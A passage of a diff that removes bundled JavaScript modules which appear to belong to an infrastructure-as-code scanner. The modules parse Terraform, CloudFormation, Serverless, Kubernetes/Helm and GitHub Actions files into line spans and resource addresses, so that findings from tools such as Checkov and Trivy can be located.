-    for (let last = reader.open.at(-1); last !== undefined && last.depth >= depth; last = reader.open.at(-1)) {
-        reader.open.pop();
-        const { label, subject, startLine, children } = last;
-        const siblings = reader.open.at(-1)?.children ?? reader.spans;
-        siblings.push({ label, startLine, endLine: Math.max(startLine, endLine), subject, children });
-    }
-}
-
-;// CONCATENATED MODULE: ./build/js/repository/locate/templates/cloudformation.js
-
-
-
-
-/** CloudFormation and SAM templates, YAML and JSON: a resource is a subject, named by its logical id. */
-const cloudformation = {
-    formats: ['cloudformation'],
-    outline(text) {
-        const read = readDocuments(text);
-        const spans = read.documents.flatMap(({ root }) => resourceSpans(document_tree_valueAt(root, 'Resources')));
-        return { spans, lines: linesOf(text).length, parsed: isUnderstood(read) };
-    },
-};
-/** The map of logical ids; objects among the properties are blocks within. What has no type is no resource. */
-const resourceSpans = (resources) => entriesOf(resources).flatMap((entry) => {
-    const type = textOf(document_tree_valueAt(entry.value, 'Type'));
-    if (type === undefined)
-        return [];
-    const address = entry.key.text;
-    return [spanOfEntry(entry, address, { type, address }, nestedSpans(document_tree_valueAt(entry.value, 'Properties')))];
-});
-
-;// CONCATENATED MODULE: ./build/js/repository/locate/templates/serverless.js
-
-
-
-
-
-/** Serverless Framework: `provider`, each function as `functions.<name>`, and CloudFormation resources by their logical id. */
-const serverless = {
-    formats: ['serverless'],
-    outline(text) {
-        const read = readDocuments(text);
-        const spans = read.documents.flatMap(({ root }) => [
-            ...providerSpans(root),
-            ...functionSpans(document_tree_valueAt(root, 'functions')),
-            ...oneOrMany(document_tree_valueAt(root, 'resources')).flatMap((part) => resourceSpans(document_tree_valueAt(part, 'Resources'))),
-        ]);
-        return {
-            spans: spans.sort((a, b) => a.startLine - b.startLine),
-            lines: linesOf(text).length,
-            parsed: isUnderstood(read),
-        };
-    },
-};
-const oneOrMany = (node) => node?.kind === 'seq' ? itemsOf(node) : [node];
-function providerSpans(root) {
-    const entry = entryOf(root, 'provider');
-    if (entry === undefined)
-        return [];
-    return [spanOfEntry(entry, 'provider', { type: 'provider', address: 'provider' }, nestedSpans(entry.value))];
-}
-/** Functions are a map or a list of maps. */
-const functionSpans = (functions) => oneOrMany(functions).flatMap((part) => entriesOf(part).map((entry) => {
-    const subject = { type: 'function', address: `functions.${entry.key.text}` };
-    return spanOfEntry(entry, `function ${entry.key.text}`, subject, nestedSpans(entry.value));
-}));
-
-;// CONCATENATED MODULE: ./build/js/repository/locate/terraform/terraform-subject.js
-/** `resource` is left out of the address and `data` is not, as Terraform writes it; the type is the provider's, else the block's. */
-function terraformSubject(block, labels) {
-    const [type = ''] = labels;
-    if (block === 'resource')
-        return { type, address: labels.join('.') };
-    const address = [block, ...labels].join('.');
-    return { type: block === 'data' || block === 'ephemeral' ? type : block, address };
-}
-
-;// CONCATENATED MODULE: ./build/js/repository/locate/terraform/terraform-json.js
-
-
-
-
-
-/** How many names a block of this type has; what is not listed has none. */
-const namesOf = {
-    resource: 2,
-    data: 2,
-    ephemeral: 2,
-    module: 1,
-    provider: 1,
-    variable: 1,
-    output: 1,
-    check: 1,
-};
-/** Terraform's JSON syntax: the same subjects as in HCL; every object below them counts as a block. */
-function terraformJson(text) {
-    const read = readDocuments(text);
-    const spans = read.documents.flatMap(({ root }) => blocksOf(root).map(spanOf));
-    return {
-        spans: spans.sort((a, b) => a.startLine - b.startLine),
-        lines: linesOf(text).length,
-        parsed: isUnderstood(read),
-    };
-}
-/** Every module call of a file with a literal source. */
-function jsonModuleCalls(text) {
-    const blocks = readDocuments(text).documents.flatMap(({ root }) => blocksOf(root));
-    return blocks.flatMap((block) => {
-        const [name] = block.labels;
-        const source = textOf(document_tree_valueAt(block.body, 'source'));
-        if (block.type !== 'module' || name === undefined || source === undefined || /[$%]\{/.test(source))
-            return [];
-        const { startLine, endLine } = spanOf(block);
-        return [{ name, source, startLine, endLine }];
-    });
-}
-/** An object or a list of objects stands for one block or several, at every level. */
-const terraform_json_oneOrMany = (node) => node?.kind === 'map' ? [node] : itemsOf(node).filter(({ kind }) => kind === 'map');
-const blocksOf = (root) => terraform_json_oneOrMany(root).flatMap((map) => entriesOf(map).flatMap((entry) => entry.key.text === '//' ? [] : terraform_json_named(entry, namesOf[entry.key.text] ?? 0, entry.key.text, [])));
-function terraform_json_named(entry, names, type, labels) {
-    if (names === 0)
-        return terraform_json_oneOrMany(entry.value).map((body) => ({ type, labels, entry, body }));
-    return terraform_json_oneOrMany(entry.value).flatMap((map) => entriesOf(map).flatMap((inner) => terraform_json_named(inner, names - 1, type, [...labels, inner.key.text])));
-}
-function spanOf({ type, labels, entry, body }) {
-    const label = [type, ...labels.map((name) => `"${name}"`)].join(' ');
-    const subject = terraformSubject(type, labels);
-    const children = nestedSpans(body);
-    return entry.value === body
-        ? spanOfEntry(entry, label, subject, children)
-        : spanOfNode(body, label, subject, children);
-}
-
-;// CONCATENATED MODULE: ./build/js/repository/locate/terraform/terraform-scanner.js
-
-const hcl = {
-    quote: '"',
-    hashComments: true,
-    heredocs: true,
-    tripleQuotes: false,
-    directives: true,
-    escapes: true,
-    top: /(?:(?:resource|data|ephemeral)[ \t]+"[^"\n]*"[ \t]+"[^"\n]*"|(?:module|variable|output|provider)[ \t]+"[^"\n]*"|terraform|locals)[ \t]*\{/y,
-};
-/** Blocks deeper than this belong to the one above them. */
-const terraform_scanner_deepest = 50;
-const mostLabels = 8;
-/** Reads the blocks of a text. One that is broken is read again with less trust, so that one slip costs one block. */
-function readHcl(text) {
-    const strict = readBlocks(text, false);
-    return strict.isWhole ? strict : { ...readBlocks(text, true), isWhole: false };
-}
-function readBlocks(text, isRecovering) {
-    const scanner = scanBraces(text, hcl, isRecovering);
-    const reader = { next: scanner.next, open: [], blocks: [], head: [], line: 1, isBroken: false };
-    for (let token = reader.next(); token !== undefined; token = reader.next())
-        terraform_scanner_step(reader, token);
-    const isWhole = reader.open.length === 0 && !reader.isBroken && !scanner.isBroken();
-    closeAll(reader, reader.line);
-    return { blocks: reader.blocks, isWhole };
-}
-function terraform_scanner_step(reader, token) {
-    if (token.type !== 'newline')
-        reader.line = token.line;
-    switch (token.type) {
-        case 'newline':
-            reader.head = [];
-            return;
-        case 'top':
-            closeAll(reader, Math.max(1, token.line - 1));
-            return;
-        case 'word':
-            extendHead(reader, token.text, token.line);
-            return;
-        case 'string':
-            if (reader.head?.length === 0 || token.text === undefined)
-                reader.head = undefined;
-            else
-                extendHead(reader, token.text, token.line);
-            return;
-        case 'mark':
-            terraform_scanner_stepMark(reader, token.text, token.line);
-            return;
-        case 'other':
-            reader.head = undefined;
-    }
-}
-function extendHead(reader, text, line) {
-    if (reader.head === undefined)
-        return;
-    if (reader.head.length > mostLabels)
-        reader.head = undefined;
-    else
-        reader.head.push({ text, line });
-}
-function terraform_scanner_stepMark(reader, mark, line) {
-    if (mark === '{')
-        openBlock(reader);
-    else if (mark === '}')
-        closeBlock(reader, line);
-    else if (mark === '=')
-        readAttribute(reader);
-    else {
-        reader.head = undefined;
-        if (mark === '(' || mark === '[')
-            skipGroup(reader);
-    }
-}
-function openBlock(reader) {
-    const [first, ...labels] = reader.head ?? [];
-    reader.head = [];
-    if (first === undefined)
-        skipGroup(reader);
-    else {
-        const names = labels.map(({ text }) => text);
-        reader.open.push({ type: first.text, labels: names, startLine: first.line, blocks: [], source: undefined });
-    }
-}
-function closeBlock(reader, endLine) {
-    reader.head = [];
-    const block = reader.open.pop();
-    if (block === undefined) {
-        reader.isBroken = true;
-        return;
-    }
-    if (reader.open.length >= terraform_scanner_deepest)
-        return;
-    const { type, labels, startLine, blocks, source } = block;
-    const siblings = reader.open.at(-1)?.blocks ?? reader.blocks;
-    siblings.push({ type, labels, startLine, endLine, blocks, ...(source === undefined ? {} : { source }) });
-}
-function closeAll(reader, endLine) {
-    if (reader.open.length > 0)
-        reader.isBroken = true;
-    while (reader.open.length > 0)
-        closeBlock(reader, Math.max(endLine, reader.open.at(-1)?.startLine ?? endLine));
-    reader.head = [];
-}
-/** After `=`: the value, which ends with its line unless brackets are open. */
-function readAttribute(reader) {
-    const name = reader.head?.length === 1 ? reader.head[0]?.text : undefined;
-    reader.head = undefined;
-    const token = reader.next();
-    const block = reader.open.at(-1);
-    if (name === 'source' && token?.type === 'string' && block !== undefined)
-        block.source = token.text;
-    const end = endOfValue(reader, token);
-    if (end !== undefined)
-        terraform_scanner_step(reader, end);
-}
-/** The token that ends the value: the end of its line, the end of the block around it, or the top of a file again. */
-function endOfValue(reader, first) {
-    let open = 0;
-    for (let token = first; token !== undefined; token = reader.next()) {
-        if (token.type === 'top' || (token.type === 'newline' && open === 0))
-            return token;
-        if (token.type !== 'newline')
-            reader.line = token.line;
-        const change = token.type === 'mark' ? bracketChange(token.text) : 0;
-        if (open + change < 0)
-            return token;
-        open += change;
-    }
-    if (open > 0)
-        reader.isBroken = true;
-    return undefined;
-}
-/** After an opening bracket that belongs to no block: everything up to its end. */
-function skipGroup(reader) {
-    let open = 1;
-    while (open > 0) {
-        const token = reader.next();
-        if (token === undefined || token.type === 'top') {
-            reader.isBroken = true;
-            if (token !== undefined)
-                terraform_scanner_step(reader, token);
-            return;
-        }
-        if (token.type !== 'newline')
-            reader.line = token.line;
-        if (token.type === 'mark')
-            open += bracketChange(token.text);
-    }
-}
-const bracketChange = (mark) => ('{[('.includes(mark) ? 1 : '}])'.includes(mark) ? -1 : 0);
-
-;// CONCATENATED MODULE: ./build/js/repository/locate/terraform/terraform.js
-
-
-
-
-const isJson = (path) => path.endsWith('.json');
-/** Terraform and OpenTofu: top-level blocks are subjects, nested blocks their parts. `.json` is read as Terraform's JSON syntax. */
-const terraform = {
-    formats: ['terraform'],
-    outline: (text, path) => (isJson(path) ? terraformJson(text) : outlineHcl(text)),
-};
-/** Every module call of a file with a literal source, in file order. */
-function moduleCalls(text, path) {
-    if (isJson(path))
-        return jsonModuleCalls(text);
-    return readHcl(text).blocks.flatMap(({ type, labels: [name], source, startLine, endLine }) => type === 'module' && name !== undefined && source !== undefined ? [{ name, source, startLine, endLine }] : []);
-}
-function outlineHcl(text) {
-    const { blocks, isWhole } = readHcl(text);
-    return { spans: blocks.map((block) => terraform_spanOf(block, true)), lines: linesOf(text).length, parsed: isWhole };
-}
-const terraform_spanOf = (block, isTop) => ({
-    label: labelOf(block),
-    startLine: block.startLine,
-    endLine: block.endLine,
-    ...(isTop ? { subject: terraformSubject(block.type, block.labels) } : {}),
-    children: block.blocks.map((child) => terraform_spanOf(child, false)),
-});
-function labelOf({ type, labels }) {
-    if (type === 'dynamic' && labels.length === 1)
-        return `dynamic.${labels[0]}`;
-    return [type, ...labels.map((label) => `"${label}"`)].join(' ');
-}
-
-;// CONCATENATED MODULE: ./build/js/repository/locate/yaml/helm-template.js
-
-
-/** Stands for an expression whose value is not known; no file holds this character on purpose (first of the private use area). */
-const filler = '\uE000';
-/** Actions that leave nothing behind. */
-const control = /^\{\{-?\s*(?:if|else|end|range|with|define|block|template|break|continue|\/\*|\$[\w.]*\s*:?=)/;
-/**
- * Replaces the actions of a Go template by text of the same length that is harmless in YAML, so that every line and column stays:
- * blanks for whole lines and for control, a filler for values. An action that is never closed ends with its line.
- */
-function maskTemplates(text) {
-    const parts = [];
-    const lastComment = text.lastIndexOf('*/');
-    let done = 0;
-    for (let open = text.indexOf('{{'); open >= 0; open = text.indexOf('{{', done)) {
-        const close = endOfAction(text, open, lastComment);
-        const end = close ?? lineEnd(text, open);
-        parts.push(text.slice(done, open), maskOf(text, open, end));
-        done = end;
-        if (close === undefined)
-            break;
-    }
-    parts.push(text.slice(done));
-    return blankAlone(parts.join(''));
-}
-const comment = /\{\{-?[ \t\r\n]{0,100}\/\*/y;
-/** A comment may hold whole actions; it ends with the first brackets after its own end. */
-function endOfAction(text, open, lastComment) {
-    comment.lastIndex = open;
-    const isComment = lastComment > open && comment.test(text);
-    const close = text.indexOf('}}', isComment ? text.indexOf('*/', open) : open);
-    return close < 0 ? undefined : close + 2;
-}
-function lineEnd(text, from) {
-    const end = text.indexOf('\n', from);
-    return end < 0 ? text.length : end;
-}
-function maskOf(text, open, end) {
-    const action = text.slice(open, end);
-    if (control.test(action.slice(0, 200)))
-        return action.replace(/[^\n\r]/g, ' ');
-    const masked = action.replace(/[^\n\r]/g, filler);
-    return isAfterKey(text, open) ? ` ${masked.slice(1)}` : masked;
-}
-/** In `key:{{- toYaml .x }}` the expression brings its own line break; in `image:tag` of a text the colon is part of the text. */
-const isAfterKey = (text, open) => text[open - 1] === ':' && /(?:^|\n)[ \t]*(?:- )?[\w.-]{1,100}:$/.test(text.slice(Math.max(0, open - 300), open));
-/** A line of fillers only (`{{ toYaml .Values.x | nindent 4 }}`) stands for any number of lines: it says nothing. */
-const blankAlone = (masked) => masked.replace(/^[ \t]*\uE000[\uE000 \t]*$/gm, (line) => ' '.repeat(line.length));
-/** What a scalar says in the template itself: `{{ .Release.Name }}-web`, with one blank on each side of an expression. */
-function templateText(node, text) {
-    const masked = textOf(node);
-    if (node === undefined || masked === undefined || !masked.includes(filler))
-        return masked;
-    const start = (lineStarts(text)[node.startLine - 1] ?? 0) + node.column - 1;
-    const isQuoted = text[start] === '"' || text[start] === "'";
-    const from = start + (isQuoted ? 1 : 0);
-    return text.slice(from, from + masked.length).replace(/\{\{-?\s*(.*?)\s*-?\}\}/g, '{{ $1 }}');
-}
-/** True when a text with expressions could be rendered as this: `Deployment/default/{{ .Release.Name }}-web`, `Deployment/default/shop-web`. */
-function fitsTemplate(template, rendered) {
-    const literals = template.split(/\{\{[^}]*\}\}/);
-    const [first = '', last = ''] = [literals[0], literals.at(-1)];
-    if (literals.length < 2 || !rendered.startsWith(first))
-        return false;
-    let at = first.length;
-    for (const literal of literals.slice(1, -1)) {
-        const found = rendered.indexOf(literal, at);
-        if (found < 0)
-            return false;
-        at = found + literal.length;
-    }
-    return rendered.endsWith(last) && rendered.length - last.length >= at;
-}
-
-;// CONCATENATED MODULE: ./build/js/repository/locate/yaml/kubernetes-scan.js
-
-/** One document of which not even YAML is left: its kind and name by the look of its lines, nothing below. */
-function scanManifest(text) {
-    const lines = linesOf(text);
-    const kind = firstValue(lines, /^kind:[ \t]*(.*)$/);
-    if (kind === undefined)
-        return undefined;
-    const start = lines.findIndex((line) => /^metadata:/.test(line));
-    const metadata = start < 0 ? [] : lines.slice(start + 1, endOfIndented(lines, start + 1));
-    const indent = /^[ \t]*/.exec(metadata.find((line) => line.trim() !== '' && !line.trim().startsWith('{{')) ?? '')?.[0] ?? '';
-    const own = metadata.filter((line) => line.startsWith(indent)).map((line) => line.slice(indent.length));
-    const name = firstValue(own, /^name:[ \t]*(.*)$/) ?? firstValue(own, /^generateName:[ \t]*(.*)$/) ?? '';
-    const namespace = firstValue(own, /^namespace:[ \t]*(.*)$/) ?? 'default';
-    const [startLine, endLine] = contentOf(lines);
-    return {
-        label: `${kind} ${name}`,
-        startLine,
-        endLine,
-        subject: { type: kind, address: `${kind}/${namespace}/${name}` },
-        children: [],
-    };
-}
-function firstValue(lines, pattern) {
-    for (const line of lines) {
-        const value = pattern.exec(line)?.[1];
-        if (value !== undefined)
-            return unquoted(value.replace(/[ \t]#.*$/, '').trim()) || undefined;
-    }
-    return undefined;
-}
-const unquoted = (value) => /^(["']).*\1$/.test(value) && value.length > 1
-    ? value.slice(1, -1)
-    : value.replace(/\{\{-?\s*(.*?)\s*-?\}\}/g, '{{ $1 }}');
-function endOfIndented(lines, from) {
-    const end = lines.findIndex((line, index) => index >= from && /^[^\s#{]/.test(line));
-    return end < 0 ? lines.length : end;
-}
-/** First and last line that are neither blank nor comment nor `---`. */
-function contentOf(lines) {
-    const says = (line) => !/^(?:---|\s*$|\s*#)/.test(line);
-    const first = lines.findIndex(says);
-    const last = lines.findLastIndex(says);
-    return first < 0 ? [1, Math.max(1, lines.length)] : [first + 1, last + 1];
-}
-
-;// CONCATENATED MODULE: ./build/js/repository/locate/yaml/yaml-segments.js
-/** More documents than this in a file are left unread. */
-const most = 10_000;
-/** Cuts a text where `---` begins a line: that always begins a document, even in the middle of a text (YAML 1.2, 9.1.2). */
-function segmentsOf(text) {
-    const segments = [];
-    let [from, startLine] = [text.startsWith('\uFEFF') ? 1 : 0, 1];
-    for (const match of text.matchAll(/\n---(?=[ \t\r\n]|$)/g)) {
-        if (segments.length === most)
-            return segments;
-        const segment = { text: text.slice(from, match.index + 1), startLine };
-        segments.push(segment);
-        startLine += countNewlines(segment.text);
-        from = match.index + 1;
-    }
-    segments.push({ text: text.slice(from), startLine });
-    return segments.filter((segment) => /^[^\s#-]|^-(?!--\s*$)|^[ \t]+[^\s#]/m.test(segment.text));
-}
-function countNewlines(text) {
-    let count = 0;
-    for (let at = text.indexOf('\n'); at >= 0; at = text.indexOf('\n', at + 1))
-        count += 1;
-    return count;
-}
-
-;// CONCATENATED MODULE: ./build/js/repository/locate/yaml/kubernetes.js
-
-
-
-
-
-
-
-/**
- * Kubernetes manifests: each document, and each item of a list, is a subject `Kind/namespace/name`; its containers are parts.
- * Templates of Helm are read with their expressions masked, so that lines stay. A document that is still no YAML is read by its lines.
- */
-const kubernetes = {
-    formats: ['kubernetes', 'helm', 'kustomize'],
-    outline(text) {
-        const read = segmentsOf(text).map(readSegment);
-        return {
-            spans: read.flatMap((segment) => segment.spans),
-            lines: linesOf(text).length,
-            parsed: read.every((segment) => segment.isUnderstood),
-        };
-    },
-};
-function readSegment(segment) {
-    const masked = segment.text.includes('{{') ? maskTemplates(segment.text) : segment.text;
-    const read = readDocuments(masked);
-    if (!isUnderstood(read)) {
-        const scanned = scanManifest(segment.text);
-        return { spans: scanned === undefined ? [] : [shift(scanned, segment.startLine - 1)], isUnderstood: false };
-    }
-    const nameOf = (node) => masked === segment.text ? textOf(node) : templateText(node, segment.text);
-    const spans = read.documents.flatMap(({ root }) => manifestSpans(root, nameOf));
-    return { spans: spans.map((span) => shift(span, segment.startLine - 1)), isUnderstood: true };
-}
-const shift = (span, lines) => lines === 0
-    ? span
-    : {
-        ...span,
-        startLine: span.startLine + lines,
-        endLine: span.endLine + lines,
-        children: span.children.map((child) => shift(child, lines)),
-    };
-function manifestSpans(root, nameOf) {
-    const kind = nameOf(document_tree_valueAt(root, 'kind'));
-    if (root === undefined || kind === undefined)
-        return [];
-    const items = itemsOf(document_tree_valueAt(root, 'items'));
-    if (kind.endsWith('List') && items.length > 0)
-        return items.flatMap((item) => manifestSpans(item, nameOf));
-    const subject = { type: kind, address: kubernetesAddress(kind, metadataOf(root, nameOf)) };
-    const children = entriesOf(root).flatMap((entry) => containerSpans(entry.value, subject, nameOf));
-    return [spanOfNode(root, `${kind} ${subject.address.slice(subject.address.lastIndexOf('/') + 1)}`, subject, children)];
-}
-const metadataOf = (root, nameOf) => ({
-    namespace: nameOf(document_tree_valueAt(root, 'metadata', 'namespace')),
-    name: nameOf(document_tree_valueAt(root, 'metadata', 'name')) ?? nameOf(document_tree_valueAt(root, 'metadata', 'generateName')),
-});
-/** `Kind/namespace/name`; without a namespace `default`, as the tools say, for kinds without namespaces too. */
-const kubernetesAddress = (kind, { namespace, name }) => `${kind}/${namespace ?? 'default'}/${name ?? ''}`;
-const containerKeys = {
-    containers: 'container',
-    initContainers: 'init container',
-    ephemeralContainers: 'ephemeral container',
-};
-/** Containers wherever a pod is described, in kinds nobody has heard of too. */
-function containerSpans(node, subject, nameOf) {
-    if (node.kind === 'seq')
-        return node.items.flatMap((item) => containerSpans(item, subject, nameOf));
-    return entriesOf(node).flatMap(({ key, value }) => {
-        const word = Object.hasOwn(containerKeys, key.text) ? containerKeys[key.text] : undefined;
-        return word === undefined || value.kind !== 'seq'
-            ? containerSpans(value, subject, nameOf)
-            : value.items.flatMap((item) => containerSpan(item, word, subject, nameOf));
-    });
-}
-function containerSpan(item, word, subject, nameOf) {
-    const part = nameOf(document_tree_valueAt(item, 'name'));
-    return part === undefined ? [] : [spanOfNode(item, `${word} ${part}`, { ...subject, part }, [])];
-}
-
-;// CONCATENATED MODULE: ./build/js/repository/locate/yaml/workflow.js
-
-
-
-
-/** GitHub Actions: a job is a subject, its steps are parts; other keys of the file are blocks of the file itself. */
-const workflow = {
-    formats: ['github-actions'],
-    outline(text) {
-        const read = readDocuments(text);
-        const spans = read.documents.flatMap(({ root }) => entriesOf(root).flatMap(spansOfKey));
-        return { spans, lines: linesOf(text).length, parsed: isUnderstood(read) };
-    },
-};
-function spansOfKey(entry) {
-    if (entry.key.text === 'jobs')
-        return [spanOfNode(entry.value, 'jobs', undefined, entriesOf(entry.value).map(jobSpan))];
-    if (entry.key.text === 'runs')
-        return [actionSpan(entry)];
-    return [spanOfEntry(entry, entry.key.text, undefined, [])];
-}
-const jobSpan = (entry) => spanWithSteps(entry, `job ${entry.key.text}`, { type: 'job', address: entry.key.text });
-/** The `runs` of a composite action, whose steps are a workflow's. */
-const actionSpan = (entry) => spanWithSteps(entry, 'runs', { type: 'action', address: 'runs' });
-function spanWithSteps(entry, label, subject) {
-    const steps = itemsOf(document_tree_valueAt(entry.value, 'steps')).map((step, index) => stepSpan(step, index, subject));
-    const others = entriesOf(entry.value).flatMap((part) => part.value.kind === 'map' ? [spanOfEntry(part, part.key.text, undefined, [])] : []);
-    return spanOfEntry(entry, label, subject, [...steps, ...others].sort((a, b) => a.startLine - b.startLine));
-}
-/** A step is called by its id, its name, or the action it uses; by its place only where it has none of these. */
-function stepSpan(step, index, job) {
-    const [id, name, uses] = ['id', 'name', 'uses'].map((key) => textOf(entryOf(step, key)?.value) || undefined);
-    const part = id ?? name ?? workflow_withoutVersion(uses) ?? `#${index}`;
-    return spanOfNode(step, `step ${part}`, { ...job, part }, nestedSpans(step));
-}
-/** A newer version of an action is the same step. */
-const workflow_withoutVersion = (uses) => uses?.replace(/@[^@]*$/, '');
-
-;// CONCATENATED MODULE: ./build/js/repository/locate/find-span.js
-
-/**
- * The smallest block that contains the lines (from 1, both included). A tool's last line may lie beyond the block: Checkov's steps and
- * manifests end on the line after the next one's first (3.3.30); then the block is meant in which the lines begin. `undefined` when
- * there is none, or several that are equally good, as in JSON on one line.
- */
-function findSpan(outline, startLine, endLine) {
-    const spans = [];
-    let [end, subject] = [endLine, undefined];
-    for (let next = fitting(outline.spans, startLine, end) ?? onlyTouched(outline.spans, startLine, end); next !== undefined;) {
-        spans.push(next);
-        subject = next.subject ?? subject;
-        end = Math.min(end, next.endLine);
-        next = isMeantAsWhole(next, startLine, end) ? undefined : fitting(next.children, startLine, end);
-    }
-    const block = spans.at(-1);
-    return block === undefined ? undefined : { ...(subject === undefined ? {} : { subject }), block, spans };
-}
-/** A block without a subject of its own (all jobs, the whole Dockerfile) of which the lines are exactly these. */
-const isMeantAsWhole = (span, startLine, endLine) => span.subject === undefined && span.startLine === startLine && span.endLine === endLine;
-const fitting = (spans, startLine, endLine) => {
-    const touched = touchedBy(spans, startLine, endLine);
-    const around = touched.filter((span) => span.startLine <= startLine && endLine <= span.endLine);
-    return around.length > 0 ? smallest(around) : overrun(touched, startLine, endLine);
-};
-const heightOf = (span) => span.endLine - span.startLine;
-/** Of several equally small ones none. */
-function smallest(spans) {
-    const least = spans.reduce((height, span) => Math.min(height, heightOf(span)), Number.POSITIVE_INFINITY);
-    const [first, ...others] = spans.filter((span) => heightOf(span) === least);
-    return others.length === 0 ? first : undefined;
-}
-/** In file order. Found by halving: a file with thousands of blocks may have thousands of findings. */
-function touchedBy(spans, startLine, endLine) {
-    if (!isOrdered(spans))
-        return spans.filter((span) => span.startLine <= endLine && startLine <= span.endLine);
-    const touched = [];
-    for (let at = firstEndingFrom(spans, startLine); at < spans.length; at += 1) {
-        const span = spans[at];
-        if (span === undefined || span.startLine > endLine)
-            break;
-        touched.push(span);
-    }
-    return touched;
-}
-function firstEndingFrom(spans, line) {
-    let [low, high] = [0, spans.length];
-    while (low < high) {
-        const middle = (low + high) >> 1;
-        if ((spans[middle]?.endLine ?? 0) < line)
-            low = middle + 1;
-        else
-            high = middle;
-    }
-    return low;
-}
-const ordered = new WeakMap();
-/** Neither first nor last lines ever go back. Looked up once for each list. */
-function isOrdered(spans) {
-    const known = ordered.get(spans);
-    if (known !== undefined)
-        return known;
-    const found = spans.every((span, index) => {
-        const before = spans[index - 1];
-        return before === undefined || (before.startLine <= span.startLine && before.endLine <= span.endLine);
-    });
-    ordered.set(spans, found);
-    return found;
-}
-function onlyTouched(spans, startLine, endLine) {
-    const [only, ...others] = touchedBy(spans, startLine, endLine);
-    return others.length === 0 ? only : undefined;
-}
-/** How many lines beyond the last line of a block, or the first line of the next one, a tool may say. */
-const slack = 1;
-/** The span in which the lines begin, if they end just behind it or at the beginning of the next. */
-function overrun(touched, startLine, endLine) {
-    const [first, second] = touched;
-    if (first === undefined || first.startLine > startLine)
-        return undefined;
-    const most = second === undefined ? first.endLine + slack : second.startLine + slack;
-    return endLine <= most && (second === undefined || startLine < second.startLine) ? first : undefined;
-}
-/**
- * The block that a tool names without lines: `aws_s3_bucket.a`, `module.m.aws_s3_bucket.a[0]`, `AWS::S3::Bucket.Assets`,
- * `Pod.default.web`, `Microsoft.Storage/storageAccounts.logs`; a container as `Pod/default/web#app`. In a Helm template the name as it
- * is rendered will do, and `default` stands for any namespace. `undefined` when no block, or more than one, fits.
- */
-function findByAddress(outline, hint) {
-    const [, address = '', part] = /^([^#]*)(?:#(.*))?$/s.exec(hint.slice(0, longestHint)) ?? [];
-    const wanted = find_span_namesOf(address);
-    const all = subjectsOf(outline.spans, []);
-    const exact = all.filter(({ subject }) => addressesOf(subject).some((name) => wanted.includes(name)));
-    const fits = exact.length > 0 ? exact : all.filter(({ subject }) => fitsTemplate(inDefault(subject.address), address));
-    const owners = fits.filter(({ subject }) => subject.part === undefined);
-    const parts = part === undefined
-        ? []
-        : fits.filter(({ subject }) => subject.part !== undefined && (subject.part === part || fitsTemplate(subject.part, part)));
-    return parts.length === 1 ? parts[0] : owners.length === 1 ? owners[0] : undefined;
-}
-/** The only subject of a file, where there is one only. */
-function findOnly(outline) {
-    const owners = subjectsOf(outline.spans, []).filter(({ subject }) => subject.part === undefined);
-    return owners.length === 1 ? owners[0] : undefined;
-}
-const longestHint = 2000;
-/** A hint as it is, without indexes, and without the modules in front. */
-function find_span_namesOf(address) {
-    const bare = address.replace(/\[(?:"[^"]*"|\d+)\]/g, '');
-    return [address, bare, bare.replace(/^(?:module\.[\w-]+\.)+/, '')];
-}
-function addressesOf({ type, address }) {
-    const name = address.slice(address.lastIndexOf('/') + 1);
-    return [address, address.replaceAll('/', '.'), `${type}.${address}`, `${type}.${name}`, inDefault(address)];
-}
-/** The same manifest in the namespace that tools name where they know none. */
-const inDefault = (address) => address.replace(/^([A-Za-z]+)\/(?:\{\{[^}]*\}\}|[^/{}])*\/(?=[^/]|$)/, '$1/default/');
-const subjectsOf = (spans, around) => spans.flatMap((block) => {
-    const here = [...around, block];
-    const { subject } = block;
-    return [...(subject === undefined ? [] : [{ subject, block, spans: here }]), ...subjectsOf(block.children, here)];
-});
-
-;// CONCATENATED MODULE: ./build/js/repository/locate/yaml/document-lines.js
-/**
- * Lines of a YAML text as they are, from lines counted the way Trivy counts them in manifests of several documents: it cuts the text
- * at every `---` line and forgets that line, so that each document is one line too high for every cut above it (0.74.0, seen on
- * real manifests; `pkg/iac/scanners/kubernetes/parser/parser.go`: an empty piece counts as one line, which makes up for its cut).
- */
-function createLineMap(text) {
-    const pieces = piecesOf(text);
-    return (counted) => {
-        const piece = pieces.findLast((candidate) => candidate.counted <= counted);
-        return piece === undefined ? counted : counted - piece.counted + piece.line;
-    };
-}
-function piecesOf(text) {
-    const pieces = [];
-    let [line, counted, from] = [1, 1, 0];
-    for (const match of text.matchAll(/^---\r?\n/gm)) {
-        pieces.push({ line, counted });
-        const lines = countLines(text, from, match.index);
-        line += lines + 1;
-        counted += Math.max(1, lines);
-        from = match.index + match[0].length;
-    }
-    return [...pieces, { line, counted }];
-}
-function countLines(text, from, to) {
-    let count = 0;
-    for (let at = text.indexOf('\n', from); at >= 0 && at < to; at = text.indexOf('\n', at + 1))
-        count += 1;
-    return count;
-}
-
-;// CONCATENATED MODULE: ./build/js/repository/locate/index.js
-
-
-
-
-
-
-
-
-
-
-
-/** Every locator. A format that none of them names is identified by its file. */
-const locators = [
-    arm,
-    bicep,
-    cloudformation,
-    dockerfile_dockerfile,
-    kubernetes,
-    serverless,
-    terraform,
-    workflow,
-];
-const byFormat = new Map(locators.flatMap((locator) => locator.formats.map((format) => [format, locator])));
-/** The subjects of a file as its format's locator sees them; `path` is relative to the root. Never throws. */
-function outlineOf(format, text, path) {
-    return byFormat.get(format)?.outline(text, path) ?? { spans: [], lines: linesOf(text).length, parsed: true };
-}
-
-;// CONCATENATED MODULE: ./build/js/repository/locate/region.js
-
-/** Tools report line 0 and lines past the end: the nearest lines that there are. */
-function clipRegion({ startLine, endLine }, lineCount) {
-    const last = Math.max(1, lineCount);
-    const first = Math.min(Math.max(1, startLine), last);
-    return { startLine: first, endLine: Math.min(Math.max(first, endLine), last) };
-}
-/** The lines without the blanks around them; a span (0-based columns of one line) narrows a single line to itself. */
-function narrowRegion(lines, startLine, endLine, span) {
-    if (span !== undefined && startLine === endLine) {
-        return { startLine, endLine, startColumn: span.start + 1, endColumn: span.end + 1 };
-    }
-    const [first, last] = [lines[startLine - 1] ?? '', lines[endLine - 1] ?? ''];
-    const startColumn = first.length - first.trimStart().length + 1;
-    const endColumn = last.trimEnd().length + 1;
-    return {
-        startLine,
-        endLine,
-        startColumn,
-        endColumn: startLine === endLine ? Math.max(startColumn, endColumn) : endColumn,
-    };
-}
-/** Characters of a line that a snippet shows; a file on one line is not copied whole. */
-const region_longestLine = 400;
-/** The first lines of a region for a person to read, masked before anything is cut, so that no half of a secret stays. */
